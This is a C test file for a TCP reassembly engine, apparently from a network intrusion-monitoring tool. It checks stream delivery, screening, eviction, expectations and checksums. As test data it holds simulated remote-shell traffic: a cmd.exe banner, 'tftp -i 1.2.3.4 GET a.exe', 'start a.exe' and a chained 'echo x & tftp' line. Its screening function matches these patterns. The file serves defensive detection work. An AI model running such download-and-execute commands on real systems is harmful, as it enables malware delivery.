/*
 * The delivery API: on_data in both directions with the endpoints, the
 * upper layer's slot and on_close with its reason, screening (verdicts,
 * replay of the bytes seen, one-segment sources kept out of the stream
 * table), protection against eviction, expectations, forced ports,
 * checksum modes and the overlap warning. Packets carry real checksums.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "reassembly.h"

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_ACK 0x10

static int failures;

#define CHECK(cond, ...) do { if (!(cond)) { failures++; \
	fprintf(stderr, "FAIL %s:%d: ", __FILE__, __LINE__); \
	fprintf(stderr, __VA_ARGS__); fputc('\n', stderr); } } while (0)

/* ------------------------------------------------------------ recorder */

struct rec {
	char bytes[2][512];
	size_t n[2];
	size_t total[2], wrong[2];	/* every byte, and those unlike expect_client */
	int closes;
	enum ws_close_reason why;
	struct ws_endpoint client, server;
};

static int nclosed, nwarn, nscreen_calls;
static char last_warn[256];
static bool protect_on_data;
static const char *expect_client;	/* the client's whole stream, when a test knows it */

static void on_data(void *arg, struct ws_flow_info *f, enum ws_side from, const uint8_t *d,
		    size_t len, const struct timeval *ts)
{
	struct rec *r = f->user;

	(void)arg;
	(void)ts;
	if (!r) {
		r = f->user = calloc(1, sizeof(*r));
		r->client = f->client;
		r->server = f->server;
	}
	for (size_t i = 0; expect_client && from == WS_SIDE_CLIENT && i < len; i++)
		r->wrong[from] += d[i] != (uint8_t)expect_client[r->total[from] + i];
	r->total[from] += len;
	if (r->n[from] + len < sizeof(r->bytes[0])) {
		memcpy(r->bytes[from] + r->n[from], d, len);
		r->n[from] += len;
	}
	if (protect_on_data && memmem(d, len, "tftp", 4))
		ws_reasm_protect(f);
}

static struct rec closed[64];

static void on_close(void *arg, struct ws_flow_info *f, enum ws_close_reason why)
{
	struct rec *r = f->user;

	(void)arg;
	if (r && nclosed < 64) {
		closed[nclosed] = *r;
		closed[nclosed].why = why;
	}
	nclosed++;
	free(r);
	f->user = NULL;
}

static void on_warn(void *arg, const char *kind, const char *detail,
		    const struct ws_flow_info *flow, const struct timeval *ts)
{
	(void)arg;
	(void)flow;
	(void)ts;
	nwarn++;
	snprintf(last_warn, sizeof(last_warn), "%s %s", kind, detail);
}

/* Follows what shows a cmd.exe banner; ignores HTTP; undecided otherwise. */
static enum ws_screen_verdict screen(void *arg, const struct ws_flow_info *f, enum ws_side from,
				     const uint8_t *b, size_t n)
{
	(void)arg;
	(void)f;
	(void)from;
	nscreen_calls++;
	if (n >= 4 && memcmp(b, "HTTP", 4) == 0)
		return WS_SCREEN_IGNORE;
	if (memmem(b, n, "Microsoft Windows", 17))
		return WS_SCREEN_FOLLOW_SHELL;
	if (memmem(b, n, "tftp ", 5))
		return WS_SCREEN_FOLLOW;
	return WS_SCREEN_UNDECIDED;
}

/* -------------------------------------------------------------- packets */

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static uint32_t sum(uint32_t s, const uint8_t *p, size_t n)
{
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	return s;
}

struct conn {
	uint32_t cli, srv;	/* host order */
	uint16_t cport, sport;
	uint32_t cseq, sseq;
};

static long now_sec = 1000;
static bool bad_sum;

static void send_tcp(const struct conn *c, int from_server, uint8_t flags, uint32_t seq,
		     const char *data)
{
	uint8_t pkt[9000];
	size_t dl = strlen(data), tl = 20 + dl, len = 20 + tl;
	uint32_t s = htonl(from_server ? c->srv : c->cli), d = htonl(from_server ? c->cli : c->srv);
	uint16_t sp = from_server ? c->sport : c->cport, dp = from_server ? c->cport : c->sport;
	uint32_t ack = from_server ? c->cseq : c->sseq, ps;
	uint16_t k;
	struct timeval tv = {now_sec, 0};

	memset(pkt, 0, 40);
	pkt[0] = 0x45;
	pkt[2] = (uint8_t)(len >> 8);
	pkt[3] = (uint8_t)len;
	pkt[8] = 64;
	pkt[9] = 6;
	memcpy(pkt + 12, &s, 4);
	memcpy(pkt + 16, &d, 4);
	k = fold(sum(0, pkt, 20));
	pkt[10] = (uint8_t)(k >> 8);
	pkt[11] = (uint8_t)k;
	pkt[20] = (uint8_t)(sp >> 8);
	pkt[21] = (uint8_t)sp;
	pkt[22] = (uint8_t)(dp >> 8);
	pkt[23] = (uint8_t)dp;
	for (int i = 0; i < 4; i++) {
		pkt[24 + i] = (uint8_t)(seq >> (24 - 8 * i));
		pkt[28 + i] = (uint8_t)(ack >> (24 - 8 * i));
	}
	pkt[32] = 5 << 4;
	pkt[33] = flags;
	pkt[34] = 0xfa;
	memcpy(pkt + 40, data, dl);
	ps = sum(0, pkt + 12, 8) + 6 + (uint32_t)tl;
	k = fold(sum(ps, pkt + 20, tl));
	if (bad_sum)
		k ^= 0x5555;
	pkt[36] = (uint8_t)(k >> 8);
	pkt[37] = (uint8_t)k;
	ws_reasm_sweep(&tv);
	ws_reasm_feed(&tv, pkt, len);
}

static void handshake(struct conn *c)
{
	send_tcp(c, 0, TH_SYN, c->cseq - 1, "");
	send_tcp(c, 1, TH_SYN | TH_ACK, c->sseq - 1, "");
	send_tcp(c, 0, TH_ACK, c->cseq, "");
}

static void say(struct conn *c, int from_server, const char *text)
{
	send_tcp(c, from_server, TH_ACK, from_server ? c->sseq : c->cseq, text);
	if (from_server)
		c->sseq += (uint32_t)strlen(text);
	else
		c->cseq += (uint32_t)strlen(text);
}

static void fin_both(struct conn *c)
{
	send_tcp(c, 0, TH_FIN | TH_ACK, c->cseq, "");
	c->cseq++;
	send_tcp(c, 1, TH_FIN | TH_ACK, c->sseq, "");
	c->sseq++;
	send_tcp(c, 0, TH_ACK, c->cseq, "");
}

static struct conn conn(uint32_t cli, uint16_t cport, uint16_t sport)
{
	struct conn c = {cli, 0x0a000005, cport, sport, 1000001, 5000001};

	return c;
}

static void start(const uint16_t *ports, size_t nports, enum ws_checksums ck, int max_streams,
		  bool with_screen)
{
	char err[256];
	struct ws_reasm_params p = {
		.ports = ports, .nports = nports, .max_streams = max_streams, .max_line = 256,
		.idle_timeout = 60, .on_data = on_data, .on_close = on_close, .on_warn = on_warn,
		.screen = with_screen ? screen : NULL, .checksums = ck, .screen_flows = 64,
	};

	nclosed = nwarn = nscreen_calls = 0;
	memset(closed, 0, sizeof(closed));
	if (ws_reasm_init(&p, err, sizeof(err)) < 0) {
		fprintf(stderr, "init: %s\n", err);
		exit(1);
	}
}

/* --------------------------------------------------------------- tests */

static void test_both_directions_and_close(void)
{
	static const uint16_t ports[] = {4444};
	struct conn c = conn(0x51847efe, 1025, 4444);
	char a[WS_ADDR_STRLEN];

	start(ports, 1, WS_CSUM_ON, 16, false);
	handshake(&c);
	say(&c, 1, "Microsoft Windows XP\r\nC:\\>");
	say(&c, 0, "dir\n");
	say(&c, 1, "listing\r\n");
	fin_both(&c);
	CHECK(nclosed == 1 && closed[0].why == WS_CLOSE_FIN, "one close, reason fin (%d)", nclosed);
	CHECK(closed[0].n[WS_SIDE_SERVER] == 35 &&
	      memcmp(closed[0].bytes[1], "Microsoft Windows XP\r\nC:\\>listing\r\n", 35) == 0,
	      "server bytes in order, banner replayed first");
	CHECK(closed[0].n[WS_SIDE_CLIENT] == 4 && memcmp(closed[0].bytes[0], "dir\n", 4) == 0,
	      "client bytes");
	CHECK(closed[0].client.port == 1025 && closed[0].server.port == 4444 &&
	      strcmp(ws_addr_str(&closed[0].client.addr, a, sizeof(a)), "81.132.126.254") == 0,
	      "endpoints: client is the SYN's sender");
	ws_reasm_finish();
}

static void test_close_reasons(void)
{
	static const uint16_t ports[] = {4444};
	struct conn r = conn(0x51847e01, 1100, 4444), i = conn(0x51847e02, 1101, 4444),
		    e = conn(0x51847e03, 1102, 4444);
	uint64_t before;

	start(ports, 1, WS_CSUM_ON, 16, false);
	handshake(&r);
	say(&r, 0, "a\n");
	send_tcp(&r, 0, TH_RST, r.cseq + 1000000, "");	/* out of window: nothing */
	CHECK(nclosed == 0, "out-of-window RST ignored");
	send_tcp(&r, 0, TH_RST, r.cseq, "");
	CHECK(nclosed == 1 && closed[0].why == WS_CLOSE_RST, "in-window RST closes");
	before = ws_reasm_stats()->dropped[WS_DROP_REPLAYED];
	say(&r, 0, "b\n");	/* on the closed 4-tuple, no SYN */
	CHECK(nclosed == 1 && ws_reasm_stats()->dropped[WS_DROP_REPLAYED] == before + 1,
	      "data on a closed 4-tuple starts nothing");
	handshake(&i);
	say(&i, 0, "a\n");
	now_sec += 61;
	say(&e, 0, "x\n");	/* a sweep at the new time, and a pickup */
	CHECK(nclosed == 2 && closed[1].why == WS_CLOSE_IDLE, "idle close");
	ws_reasm_finish();
	CHECK(nclosed == 3 && closed[2].why == WS_CLOSE_END, "end of capture closes the rest");
}

static void test_screening(void)
{
	struct conn shell = conn(0x51000001, 2000, 1957), web = conn(0x51000002, 2001, 80),
		    one = conn(0x51000003, 2002, 7777), typed = conn(0x51000004, 40003, 9999);

	start(NULL, 0, WS_CSUM_ON, 16, true);
	handshake(&shell);
	say(&shell, 0, "\n");
	CHECK(ws_reasm_active_streams() == 0 && ws_reasm_screening_flows() == 1,
	      "undecided flow stays in screening");
	say(&shell, 1, "Microsoft Windows XP [Version 5.1.2600]\r\n");
	CHECK(ws_reasm_active_streams() == 1, "banner promotes (FOLLOW_SHELL)");
	say(&shell, 0, "tftp -i 1.2.3.4 GET a.exe\n");
	handshake(&web);
	say(&web, 0, "GET / HTTP/1.0\r\n\r\n");
	say(&web, 1, "HTTP/1.0 200 OK\r\n\r\nMicrosoft Windows");
	say(&web, 1, "more");
	CHECK(ws_reasm_active_streams() == 1, "IGNORE keeps the flow out of the stream table");
	say(&one, 0, "x");
	say(&typed, 0, "echo x & tftp -i 1.2.3.4 GET b.exe\n");
	ws_reasm_finish();
	CHECK(nclosed == 2, "two streams followed (%d)", nclosed);
	CHECK(closed[0].n[0] + closed[1].n[0] > 0, "bytes delivered");
	for (int k = 0; k < 2 && k < nclosed; k++) {
		if (closed[k].server.port == 1957) {
			CHECK(closed[k].n[0] == 27 && memcmp(closed[k].bytes[0], "\ntftp", 5) == 0,
			      "client bytes seen while screening replayed");
		} else {
			CHECK(closed[k].server.port == 9999 && closed[k].n[0] == 35,
			      "promoted on its first segment, bytes delivered once");
		}
	}
	CHECK(ws_reasm_stats()->screen_ignored == 1, "ignored counted");
}

static void test_protection_and_lru(void)
{
	static const uint16_t ports[] = {4444};
	struct conn shell = conn(0x52000001, 3000, 4444);

	protect_on_data = true;
	start(ports, 1, WS_CSUM_ON, 4, false);
	handshake(&shell);
	say(&shell, 0, "tftp -i 1.2.3.4 GET a.exe\n");	/* shell evidence: protected */
	for (uint32_t i = 0; i < 40; i++) {
		struct conn f = conn(0x53000000 + i, (uint16_t)(4000 + i), 4444);

		handshake(&f);
		say(&f, 0, "x\n");
		now_sec++;
	}
	say(&shell, 0, "start a.exe\n");
	CHECK(ws_reasm_active_streams() == 4, "table bounded (%zu)", ws_reasm_active_streams());
	CHECK(ws_reasm_stats()->evictions >= 36, "unprotected streams evicted LRU");
	ws_reasm_finish();
	protect_on_data = false;
	for (int k = 0; k < nclosed && k < 64; k++)
		if (closed[k].server.port == 4444 && closed[k].client.port == 3000)
			CHECK(closed[k].why == WS_CLOSE_END && closed[k].n[0] == 38,
			      "protected shell kept its whole stream");
}

static void test_expect_and_forced_port(void)
{
	static const uint16_t ports[] = {4444};
	struct conn data = conn(0x54000001, 1030, 20), ftp = conn(0x54000002, 1031, 2121);
	struct ws_endpoint srv = {ws_addr_v4h(0x0a000005), 20};

	start(ports, 1, WS_CSUM_ON, 16, false);
	CHECK(ws_reasm_expect(NULL, &srv, 30) == 0, "expectation added");
	handshake(&data);
	CHECK(ws_reasm_active_streams() == 1, "expected connection followed from its SYN");
	say(&data, 1, "binary");
	ws_reasm_follow_port(2121);
	handshake(&ftp);
	say(&ftp, 0, "u");
	CHECK(ws_reasm_active_streams() == 2, "forced port followed at its first byte");
	ws_reasm_finish();
	CHECK(ws_reasm_stats()->expect_hit == 1, "expectation hit counted");
}

/*
 * An expectation lives ttl seconds: one added before the first packet counts
 * them from that packet (not from the first SYN that looks for it); one past
 * its time follows nothing and is counted expired, by the SYN that finds it
 * gone and by the next ws_reasm_expect alike.
 */
static void test_expect_expiry(void)
{
	static const uint16_t ports[] = {4444};
	struct conn other = conn(0x54100001, 1040, 4444), late = conn(0x54100002, 1041, 20),
		    early = conn(0x54100003, 1042, 21);
	struct ws_endpoint srv20 = {ws_addr_v4h(0x0a000005), 20}, srv21 = {ws_addr_v4h(0x0a000005), 21},
			   srv22 = {ws_addr_v4h(0x0a000005), 22};
	long t0 = now_sec;

	start(ports, 1, WS_CSUM_ON, 16, false);
	CHECK(ws_reasm_expect(NULL, &srv20, 30) == 0, "expectation before the first packet");
	say(&other, 0, "x");	/* the first packet (no SYN): the clock starts at t0 */
	now_sec = t0 + 31;
	handshake(&late);
	CHECK(ws_reasm_active_streams() == 0 && ws_reasm_stats()->expect_expired == 1 &&
	      ws_reasm_stats()->expect_hit == 0,
	      "30 s from the first packet, 31 s later: gone (streams %zu, expired %llu)",
	      ws_reasm_active_streams(), (unsigned long long)ws_reasm_stats()->expect_expired);
	CHECK(ws_reasm_expect(NULL, &srv21, 30) == 0 && ws_reasm_expect(NULL, &srv22, 5) == 0,
	      "two more expectations");
	now_sec = t0 + 31 + 29;
	handshake(&early);
	CHECK(ws_reasm_active_streams() == 1 && ws_reasm_stats()->expect_hit == 1 &&
	      ws_reasm_stats()->expect_expired == 2,
	      "29 s of 30: followed; the 5 s one counted expired (hit %llu, expired %llu)",
	      (unsigned long long)ws_reasm_stats()->expect_hit,
	      (unsigned long long)ws_reasm_stats()->expect_expired);
	ws_reasm_finish();
	now_sec = t0 + 61;
}

static void test_checksums(void)
{
	static const uint16_t ports[] = {4444};
	struct conn c = conn(0x55000001, 1200, 4444), d = conn(0x55000002, 1201, 4444);

	start(ports, 1, WS_CSUM_ON, 16, false);
	handshake(&c);
	bad_sum = true;
	send_tcp(&c, 0, TH_ACK, c.cseq, "evil\n");
	bad_sum = false;
	say(&c, 0, "good\n");
	ws_reasm_finish();
	CHECK(nclosed == 1 && closed[0].n[0] == 5 && memcmp(closed[0].bytes[0], "good\n", 5) == 0,
	      "on: a bad-checksum copy is dropped, the good one delivered");
	/* auto with every packet bad: offload; everything still delivered */
	start(ports, 1, WS_CSUM_AUTO, 16, false);
	bad_sum = true;
	handshake(&d);
	for (int i = 0; i < 20; i++) {
		say(&d, 0, "l\n");
		say(&d, 1, "ok");
	}
	bad_sum = false;
	CHECK(ws_reasm_stats()->checksum_offload && !ws_reasm_stats()->checksums_on,
	      "auto saw offload and turned validation off");
	ws_reasm_finish();
	CHECK(nclosed == 1 && closed[0].n[0] == 40, "offloaded capture delivered (%zu)",
	      nclosed ? closed[0].n[0] : 0);
}

static void test_overlap_warning(void)
{
	static const uint16_t ports[] = {4444};
	struct conn c = conn(0x56000001, 1300, 4444);

	start(ports, 1, WS_CSUM_ON, 16, false);
	handshake(&c);
	send_tcp(&c, 0, TH_ACK, c.cseq + 4, "GOOD\n");
	send_tcp(&c, 0, TH_ACK, c.cseq + 4, "EVIL\n");
	send_tcp(&c, 0, TH_ACK, c.cseq, "abc ");
	CHECK(nwarn == 1 && strstr(last_warn, "tcp-overlap") && strstr(last_warn, "earlier"),
	      "conflicting overlap warned: %s", last_warn);
	ws_reasm_finish();
	CHECK(nclosed == 1 && memcmp(closed[0].bytes[0], "abc GOOD\n", 9) == 0,
	      "windows keeps the first copy");
}

/*
 * A run of several KiB queued out of order (a jumbo or offloaded segment
 * beyond a hole, then the hole) is delivered whole and in order, though it
 * leaves the queue in pieces of 2 KiB.
 */
static void test_long_queued_run(void)
{
	static const uint16_t ports[] = {4444};
	static char pat[7200 + 1];
	struct conn c = conn(0x51847efe, 1027, 4444);
	char seg[101];

	for (size_t i = 0; i < 7200; i++)
		pat[i] = (char)('a' + (i * 7 + i / 251) % 26);
	expect_client = pat;
	start(ports, 1, WS_CSUM_ON, 16, false);
	handshake(&c);
	send_tcp(&c, 0, TH_ACK, c.cseq + 100, pat + 100);
	memcpy(seg, pat, 100);
	seg[100] = '\0';
	send_tcp(&c, 0, TH_ACK, c.cseq, seg);	/* the hole: everything queued follows */
	c.cseq += 7200;
	fin_both(&c);
	CHECK(nclosed == 1 && closed[0].total[WS_SIDE_CLIENT] == 7200,
	      "7200 client bytes delivered (%zu)", closed[0].total[WS_SIDE_CLIENT]);
	CHECK(closed[0].wrong[WS_SIDE_CLIENT] == 0, "every byte in place (%zu wrong)",
	      closed[0].wrong[WS_SIDE_CLIENT]);
	expect_client = NULL;
	ws_reasm_finish();
}

/* Web flow i of a run from base: client base + 7i, port 1024 + i, to port 80. */
static struct conn web_conn(uint32_t base, uint32_t i)
{
	return conn(base + i * 7, (uint16_t)(1024 + i % 60000), 80);
}

/* n web flows whose server's first bytes screening ignores. */
static void web_flows_open(uint32_t base, uint32_t n)
{
	for (uint32_t i = 0; i < n; i++) {
		struct conn c = web_conn(base, i);

		say(&c, 1, "HTTP/1.0 200 OK\r\n");
	}
}

/* The same n flows say more: bytes of flows the set still holds are not screened again. */
static void web_flows_more(uint32_t base, uint32_t n)
{
	for (uint32_t i = 0; i < n; i++) {
		struct conn c = web_conn(base, i);

		c.sseq += 17;
		say(&c, 1, "more of the page");
	}
}

/*
 * README "Screening": the ignored set starts small and doubles while its
 * flows live; an entry it had to drop for room only costs that flow a
 * second look; entries gone stale are compacted away, not doubled for.
 */
static void test_ignored_set_size(void)
{
	enum { N = 6000 };
	const struct ws_reasm_stats *st;
	uint64_t first_slots, calls;

	start(NULL, 0, WS_CSUM_ON, 16, true);
	first_slots = ws_reasm_stats()->ignored_slots;
	web_flows_open(0x54000000, N);
	st = ws_reasm_stats();
	CHECK(st->screen_ignored == N, "every flow ignored (%llu)",
	      (unsigned long long)st->screen_ignored);
	CHECK(first_slots >= 1024 && st->ignored_slots >= 4 * (uint64_t)N / 2 &&
	      st->ignored_resized >= 1, "the set grew from %llu to %u slots for %d flows",
	      (unsigned long long)first_slots, st->ignored_slots, N);
	CHECK(st->ignored_replaced < N / 100, "few entries replaced (%llu)",
	      (unsigned long long)st->ignored_replaced);
	calls = (uint64_t)nscreen_calls;
	web_flows_more(0x54000000, N);
	CHECK((uint64_t)nscreen_calls - calls == st->ignored_replaced,
	      "only flows dropped for room screened again (%llu of %llu)",
	      (unsigned long long)((uint64_t)nscreen_calls - calls),
	      (unsigned long long)st->ignored_replaced);
	ws_reasm_finish();

	/*
	 * Stale entries: just under a quarter of the first table, then, past
	 * idle_timeout (60 s), more than fills it again: the resize finds most
	 * entries stale and compacts instead of doubling.
	 */
	start(NULL, 0, WS_CSUM_ON, 16, true);
	first_slots = ws_reasm_stats()->ignored_slots;
	for (int round = 0; round < 2; round++) {
		uint32_t n = round == 0 ? (uint32_t)first_slots / 4 - 8 : 600;

		for (uint32_t i = 0; i < n; i++) {
			struct conn c = conn(0x55000000 + i * 7 + (uint32_t)round, (uint16_t)(2048 + i), 80);

			say(&c, 1, "HTTP/1.0 200 OK\r\n");
		}
		now_sec += 120;
	}
	st = ws_reasm_stats();
	CHECK(st->ignored_slots == first_slots && st->ignored_resized == 1,
	      "stale entries compacted, not doubled for (%u slots, %llu resizes)",
	      st->ignored_slots, (unsigned long long)st->ignored_resized);
	ws_reasm_finish();
}

/*
 * The engine's tables come from mmap (2 MiB pages): this definition stands
 * in for libc's in this program, so a test can make the next ones fail.
 */
static bool mmap_fails;

void *mmap(void *addr, size_t len, int prot, int flags, int fd, off_t off)
{
	if (mmap_fails) {
		errno = ENOMEM;
		return MAP_FAILED;
	}
	return (void *)syscall(SYS_mmap, addr, len, prot, flags, fd, off);
}

/*
 * Out of memory when the ignored set must grow: the resize is counted as
 * out of memory, the old set stays and keeps its flows ignored (their next
 * bytes are not screened again, beyond the few replaced for room), new
 * flows are still screened and ignored, and the set grows once memory is
 * back.
 */
static void test_ignored_set_oom(void)
{
	const struct ws_reasm_stats *st;
	uint32_t n, first_slots;
	uint64_t calls;

	start(NULL, 0, WS_CSUM_ON, 16, true);
	first_slots = ws_reasm_stats()->ignored_slots;
	n = first_slots / 4 + 600;	/* past a quarter: one resize, which fails */
	mmap_fails = true;
	web_flows_open(0x58000000, n);
	mmap_fails = false;
	st = ws_reasm_stats();
	CHECK(st->no_mem >= 1 && st->ignored_slots == first_slots && st->ignored_resized == 0,
	      "a failed resize counted (%llu out of memory), the set kept (%u slots)",
	      (unsigned long long)st->no_mem, st->ignored_slots);
	CHECK(st->screen_ignored == n, "every flow screened and ignored (%llu of %u)",
	      (unsigned long long)st->screen_ignored, n);
	calls = (uint64_t)nscreen_calls;
	web_flows_more(0x58000000, n);
	CHECK((uint64_t)nscreen_calls - calls == st->ignored_replaced,
	      "the kept set still ignores its flows (%llu screened again, %llu replaced)",
	      (unsigned long long)((uint64_t)nscreen_calls - calls),
	      (unsigned long long)st->ignored_replaced);
	web_flows_open(0x59000000, first_slots / 2);
	st = ws_reasm_stats();
	CHECK(st->ignored_resized >= 1 && st->ignored_slots > first_slots,
	      "memory back: the set grows (%u slots)", st->ignored_slots);
	ws_reasm_finish();
}

/*
 * Handshakes are remembered through a scan: 200 of them, then 8192 scan
 * SYNs (one per SYN cache set on average), then their first data, the
 * first one's segments out of order. A SYN and its SYN/ACK share a set of
 * eight, so one is lost only when six more SYNs land in its set (about 1 in
 * 1600 here); the two-way pairs used before lost about 1 in 20, and four
 * ways shared by both sides about 1 in 10. The out-of-order one shows what
 * a kept handshake is for: its second segment waits for the first.
 */
static void test_handshake_through_scan(void)
{
	enum { SHELLS = 200 };
	static const uint16_t ports[] = {4444};
	static struct conn shells[SHELLS];
	const struct ws_reasm_stats *st;

	expect_client = "tftp -i 1.2.3.4 GET a.exe\n";
	start(ports, 1, WS_CSUM_ON, 256, true);
	for (uint32_t i = 0; i < SHELLS; i++) {
		shells[i] = conn(0x56000001 + i * 13, (uint16_t)(3333 + i), 4444);
		handshake(&shells[i]);
	}
	for (uint32_t i = 0; i < 8192; i++) {
		struct conn scan = conn(0x57000000 + i, (uint16_t)(40000 + i % 20000), 135);

		send_tcp(&scan, 0, TH_SYN, 77 * i, "");
	}
	send_tcp(&shells[0], 0, TH_ACK, shells[0].cseq + 5, "-i 1.2.3.4 GET a.exe\n");
	say(&shells[0], 0, "tftp ");
	for (uint32_t i = 1; i < SHELLS; i++)
		say(&shells[i], 0, "tftp -i 1.2.3.4 GET a.exe\n");
	st = ws_reasm_stats();
	CHECK(st->streams == SHELLS && st->pickups <= 2, "handshakes kept through the scan (%llu of %d picked up)",
	      (unsigned long long)st->pickups, SHELLS);
	ws_reasm_finish();
	CHECK(nclosed == SHELLS && closed[0].n[0] == strlen(expect_client) &&
	      memcmp(closed[0].bytes[0], expect_client, closed[0].n[0]) == 0,
	      "the stream starts at the ISN, both segments in order");
	expect_client = NULL;
}

int main(void)
{
	test_both_directions_and_close();
	test_close_reasons();
	test_screening();
	test_protection_and_lru();
	test_expect_and_forced_port();
	test_expect_expiry();
	test_checksums();
	test_overlap_warning();
	test_long_queued_run();
	test_ignored_set_size();
	test_ignored_set_oom();
	test_handshake_through_scan();
	if (failures)
		fprintf(stderr, "%d check(s) failed\n", failures);
	else
		printf("reassembly api: all checks passed\n");
	return failures ? 1 : 0;
}
